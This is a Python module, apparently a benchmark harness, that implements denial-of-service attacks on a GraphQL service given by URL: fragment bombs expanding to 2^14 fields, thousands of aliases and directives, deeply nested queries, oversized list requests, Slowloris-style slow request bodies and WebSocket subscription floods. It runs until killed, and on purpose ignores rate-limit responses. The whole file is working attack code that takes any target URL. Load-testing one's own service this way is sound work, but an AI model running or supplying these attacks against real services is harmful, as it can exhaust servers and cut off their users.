"""``python -m bench.attackers ATTACK URL``: means harm to a service until it is killed."""

import asyncio
import json
import sys
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass
from typing import Any

import httpx
from websockets.asyncio.client import connect
from websockets.exceptions import WebSocketException
from websockets.typing import Subprotocol

_BOMB = 14
_MANY = 400
_CONNECTIONS = 8
_SLOW = 200
_SOCKETS = 100


def _spread_twice() -> str:
    """Fragments that each spread the next one twice: 2^14 fields in 600 bytes."""
    fragments = [
        f"fragment F{n} on Query {{ a{n}: __typename ...F{n + 1} ...F{n + 1} }}"
        for n in range(_BOMB)
    ]
    return "{ ...F0 } " + " ".join([*fragments, f"fragment F{_BOMB} on Query {{ __typename }}"])


def _overlapping() -> str:
    """Fragments that all select the same, and are compared with each other by validation."""
    spreads = " ".join(f"...F{n}" for n in range(_MANY))
    fragment = "on Query { organization { id name } }"
    return f"{{ {spreads} }} " + " ".join(f"fragment F{n} {fragment}" for n in range(_MANY))


def _around() -> str:
    """As deep as goes, in a circle."""
    return "{ projects { nodes { " + "project { " * 50 + "id" + " }" * 50 + " } } }"


@dataclass(frozen=True)
class Attack:
    """What attackers do."""

    words: str
    document: Callable[[], str] | None = None
    """What they send again and again, where it is a document."""


ATTACKS = {
    "fragment bomb": Attack("2^14 fields in 600 bytes", _spread_twice),
    "overlapping fragments": Attack(f"{_MANY} of them", _overlapping),
    "aliases": Attack(
        "10,000 in a document",
        lambda: "{ " + " ".join(f"a{n}: __typename" for n in range(10_000)) + " }",
    ),
    "directives": Attack(
        "10,000 on a field", lambda: "{ __typename " + "@include(if: true) " * 10_000 + "}"
    ),
    "circle": Attack("50 levels of project", _around),
    "greedy": Attack(
        "lists of 1,000, as many as are let in",
        lambda: '{ artifacts(project: "bench", first: 1000) { nodes { id name metadata } } }',
    ),
    "slow bodies": Attack(f"{_SLOW} connections, a byte each 0.2 s"),
    "sockets": Attack(f"{_SOCKETS} WebSockets, each with 20 operations at once, again and again"),
}


async def attack(name: str, url: str) -> None:
    """Go on until killed."""
    document = ATTACKS[name].document
    async with asyncio.TaskGroup() as group:
        if document:
            for _ in range(_CONNECTIONS):
                group.create_task(_send(url, {"query": document()}))
        elif name == "sockets":
            for _ in range(_SOCKETS):
                group.create_task(_flood(url))
        else:
            for _ in range(_SLOW):
                group.create_task(_dribble(url))


async def _send(url: str, body: dict[str, Any]) -> None:
    async with httpx.AsyncClient(timeout=60, trust_env=False) as http:
        while True:
            with suppress(httpx.TransportError):
                answer = await http.post(url, json=body)
                if answer.status_code >= 429:
                    # It was told when to come again, and comes much sooner.
                    await asyncio.sleep(0.05)


async def _dribble(url: str) -> None:
    at = httpx.URL(url)
    head = b"POST /graphql HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
    while True:
        with suppress(OSError):
            _, writer = await asyncio.open_connection(at.host, at.port)
            writer.write(head + b"content-length: 1000\r\n\r\n")
            for _ in range(1000):
                writer.write(b" ")
                await writer.drain()
                await asyncio.sleep(0.2)
        await asyncio.sleep(0.2)


async def _flood(url: str) -> None:
    payload = {"query": "subscription { entityChanged(ids: []) { __typename } }"}
    begin = [{"type": "connection_init"}]
    asked = [{"type": "subscribe", "id": f"{n}", "payload": payload} for n in range(20)]
    while True:
        with suppress(WebSocketException, OSError, TimeoutError):
            protocols = [Subprotocol("graphql-transport-ws")]
            at = url.replace("http", "ws", 1)
            async with connect(at, subprotocols=protocols, proxy=None) as wire:
                for message in [*begin, *asked]:
                    await wire.send(json.dumps(message))
                async with asyncio.timeout(2):
                    async for _ in wire:
                        pass
        await asyncio.sleep(0.2)


if __name__ == "__main__":
    asyncio.run(attack(sys.argv[1], sys.argv[2]))
